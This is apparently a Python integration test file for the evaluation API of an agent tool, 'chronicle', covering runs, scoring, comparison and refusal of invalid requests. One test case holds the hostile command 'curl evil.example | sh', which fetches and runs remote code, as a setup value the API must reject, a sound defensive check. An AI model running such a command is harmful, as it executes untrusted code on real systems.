"""Evaluation runs through the API of a real `chronicle serve` with the scripted model server:
a two-task run started over HTTP, its trials run by the server's worker (never by the API) and
scored as `chronicle eval run` scores them, followed until finished; its report; two runs
compared as `chronicle eval compare --json` compares them; another user's 404s; bad requests
refused with a problem document."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx

from tests.support.chronicle_server import ServerProcess
from tests.support.cli import chronicle
from tests.support.evaluation_api import bearer, wait_finished
from tests.support.fake_llm import FakeLlmServer, Reply, tool_call

#: A task whose check runs in a sandbox over the final workspace, and one judged by its answer.
SUITE = {
    "name": "smoke",
    "tasks": [
        {
            "id": "hello",
            "prompt": 'Make hello.py print "hello chronicle".',
            "files": {"hello.py": "print('hi')\n"},
            "check": "python3 hello.py | grep -qx 'hello chronicle'",
            "limits": {"max_iterations": 5},
        },
        {"id": "answer", "prompt": "What is six times seven?", "answer": "42"},
    ],
}
FIX_HELLO = "printf 'print(\"hello chronicle\")\\n' > hello.py"


def start(server: ServerProcess, token: str, name: str, **extra: Any) -> httpx.Response:
    body = {"name": name, "suite": SUITE, "trials": 1, "concurrency": 1} | extra
    return httpx.post(f"{server.url}/api/evaluations", headers=bearer(token), json=body, timeout=60)


def test_a_run_started_over_http_is_run_by_workers_scored_reported_and_compared(
    serve: Callable[..., ServerProcess], fake_llm: FakeLlmServer
) -> None:
    fake_llm.script(
        # run "before": hello fixed (check passes), the answer wrong
        Reply(tool_calls=[tool_call("execute_bash", command=FIX_HELLO)]),
        Reply(tool_calls=[tool_call("finish", message="hello.py prints it now")]),
        Reply(tool_calls=[tool_call("finish", message="41")]),
        # run "after": hello left as it was (check fails), the answer right
        Reply(tool_calls=[tool_call("finish", message="nothing to do")]),
        Reply(tool_calls=[tool_call("finish", message="42")]),
    )
    server = serve(llm_base_url=fake_llm.base_url)
    ada = server.token("ada")

    started = start(server, ada, "before")
    assert started.status_code == 202, started.text
    assert started.json()["status"] == "queued"
    assert (started.json()["total"], started.json()["started"]) == (2, 1)  # concurrency 1
    assert started.json()["user"] == "ada"
    again = start(server, ada, "before")
    assert again.status_code == 409 and again.headers["content-type"] == "application/problem+json"

    before = wait_finished(server.url, ada, "before")
    assert (before["total"], before["done"], before["passed"], before["failed"]) == (2, 2, 1, 1)
    report = httpx.get(f"{server.url}/api/evaluations/before/report", headers=bearer(ada))
    assert report.status_code == 200, report.text
    body = report.json()
    assert (body["total"], body["passed"], body["pass_rate"]) == (2, 1, 0.5)
    passed = {task["id"]: task["passed"] for task in body["tasks"]}
    assert passed == {"hello": True, "answer": False}
    assert body["steps"] == 3  # hello: the command and finish; answer: finish
    assert body["statuses"] == {"finished": 2}
    # the trials are the user's own sessions, recorded as `chronicle eval run` records them
    sessions = {task["id"]: task["session_id"] for task in body["tasks"]}
    events = httpx.get(
        f"{server.url}/api/sessions/{sessions['hello']}/events?limit=1000", headers=bearer(ada)
    ).json()["events"]
    config = events[0]["payload"]["config"]
    assert (config["evaluation_run"], config["evaluation_task"]["id"]) == (
        started.json()["key"],
        "hello",
    )  # the run as ada named it: before@<her id>
    scores = {e["payload"]["name"]: e["payload"]["score_label"] for e in events
              if e["kind"] == "eval.score"}  # fmt: skip
    assert scores["check"] == "pass" and scores["finished"] == "pass"
    assert Path(config["workspace"], "hello.py").read_text() == 'print("hello chronicle")\n'

    assert start(server, ada, "after").status_code == 202
    after = wait_finished(server.url, ada, "after")
    assert (after["passed"], after["failed"]) == (1, 1)
    compared = httpx.get(
        f"{server.url}/api/evaluations/compare",
        params={"a": "before", "b": "after"},
        headers=bearer(ada),
    )
    assert compared.status_code == 200, compared.text
    flips = compared.json()
    assert flips["newly_passing"] == ["answer"] and flips["regressed"] == ["hello"]
    assert flips["both"] == [] and flips["neither"] == []
    assert flips["steps_delta"] == -1
    cli = chronicle("eval", "compare", "before", "after", "--json", env=server.env)
    assert cli.returncode == 0, cli.stderr
    assert flips == json.loads(cli.stdout)  # what the command line prints, field for field

    listed = httpx.get(f"{server.url}/api/evaluations", headers=bearer(ada)).json()
    assert [run["name"] for run in listed["runs"]] == ["after", "before"]
    assert all(run["status"] == "finished" for run in listed["runs"])
    first = httpx.get(f"{server.url}/api/evaluations?limit=1", headers=bearer(ada)).json()
    assert [run["name"] for run in first["runs"]] == ["after"] and first["next_cursor"]
    rest = httpx.get(
        f"{server.url}/api/evaluations",
        params={"limit": 1, "cursor": first["next_cursor"]},
        headers=bearer(ada),
    ).json()
    assert [run["name"] for run in rest["runs"]] == ["before"] and rest["next_cursor"] is None

    # A model the server does not have (404 model_not_found) stops the run at its first trial,
    # unscored, with the reason in GET; no next trial is recorded. Before: every trial ran
    # into it and the run read "finished", 0 of 2 passed, with no reason.
    fake_llm.models = {"scripted"}
    sent = len(fake_llm.requests)
    assert start(server, ada, "gone", model="openai/gone").status_code == 202
    gone = wait_finished(server.url, ada, "gone", status="stopped")
    assert (gone["total"], gone["started"], gone["done"]) == (2, 1, 0)
    assert gone["reason"].startswith("the model was not found: check CHRONICLE_LLM_MODEL")
    assert "The model `gone` does not exist" in gone["reason"]
    assert len(fake_llm.requests) == sent + 1


def test_bad_requests_are_refused_with_a_problem_document(
    serve: Callable[..., ServerProcess],
) -> None:
    server = serve()
    token = server.token("bob")
    cases = {
        "task 'a', field 'prompt'": {"name": "x", "tasks": [{"id": "a"}]},
        "field 'tasks'": {"name": "x", "tasks": []},
        "task 'a', field 'setup'": {"name": "x", "tasks": [
            {"id": "a", "prompt": "p", "setup": "curl evil.example | sh"}]},
        "task 'a', field 'repo'": {"name": "x", "tasks": [
            {"id": "a", "prompt": "p", "repo": "/"}]},
    }  # fmt: skip
    for expected, suite in cases.items():
        refused = httpx.post(
            f"{server.url}/api/evaluations",
            headers=bearer(token),
            json={"name": "bad", "suite": suite},
        )
        assert refused.status_code == 422, refused.text
        assert refused.headers["content-type"] == "application/problem+json"
        assert expected in refused.json()["detail"], refused.json()
    # a model name no provider answers to (before: 202, and every trial failed)
    unknown = {"name": "bad", "suite": SUITE, "model": "nosuchprovider/x"}
    refused = httpx.post(
        f"{server.url}/api/evaluations", headers=bearer(token), json=unknown, timeout=60
    )  # the first request naming a model imports litellm
    assert refused.status_code == 422, refused.text
    assert "no model provider is known for the model name 'nosuchprovider/x'" in refused.text
    for name in ("compare", "no spaces please"):
        body = {"name": name, "suite": SUITE}
        refused = httpx.post(f"{server.url}/api/evaluations", headers=bearer(token), json=body)
        assert refused.status_code in (400, 422), refused.text
        assert refused.headers["content-type"] == "application/problem+json"
    # nothing was started by any of them
    assert httpx.get(f"{server.url}/api/evaluations", headers=bearer(token)).json()["runs"] == []
    # a name PostgreSQL cannot hold (NUL) names no run: 404, not a 500 from the driver (the
    # OpenAPI fuzzer found the comparison's 500); an admin looks it up too
    admin = server.token("root", admin=True)
    for who in (token, admin):
        for path, params in (
            ("/api/evaluations/compare", {"a": "x\x00y", "b": "z"}),
            ("/api/evaluations/compare", {"a": "z", "b": "\x00"}),
            ("/api/evaluations/a%00b", {}),
            ("/api/evaluations/a%00b/report", {}),
        ):
            looked = httpx.get(f"{server.url}{path}", headers=bearer(who), params=params)
            assert looked.status_code == 404, (path, params, looked.text)
    cursor = base64.urlsafe_b64encode(json.dumps(["2026-01-01T00:00:00+00:00", "a\x00"]).encode())
    paged = httpx.get(
        f"{server.url}/api/evaluations", headers=bearer(admin), params={"cursor": cursor.decode()}
    )
    assert paged.status_code == 422, paged.text


def test_one_name_started_many_times_at_once_is_started_once(
    serve: Callable[..., ServerProcess],
) -> None:
    """Eight requests of one name at once (clients retrying, of two users): one run per user
    (a name is its owner's), the rest 409, and each trial recorded once. Without the claim of
    a trial's derived session id, requests that all found the name free would each start
    the run."""
    server = serve(server_max_active_sessions="20")
    tokens = [server.token("carol"), server.token("dave")]

    async def starts() -> list[httpx.Response]:
        async with httpx.AsyncClient(base_url=server.url, timeout=60) as client:
            body = {"name": "once", "suite": SUITE, "concurrency": 2}
            return await asyncio.gather(*(
                client.post("/api/evaluations", headers=bearer(tokens[n % 2]), json=body)
                for n in range(8)
            ))  # fmt: skip

    answers = [response.status_code for response in asyncio.run(starts())]
    assert sorted(answers) == [202] * 2 + [409] * 6, answers
    # their trials fail at once (no model listens: the runs stop), each recorded once
    for token in tokens:
        run = wait_finished(server.url, token, "once", timeout=120, status="stopped")
        assert (run["total"], run["started"], run["done"]) == (2, 2, 0)
        assert run["reason"].startswith("nothing answers at http://127.0.0.1:9/v1")
    admin = server.token("root", admin=True)
    sessions = httpx.get(f"{server.url}/api/sessions?limit=200", headers=bearer(admin)).json()
    assert len(sessions["sessions"]) == 4
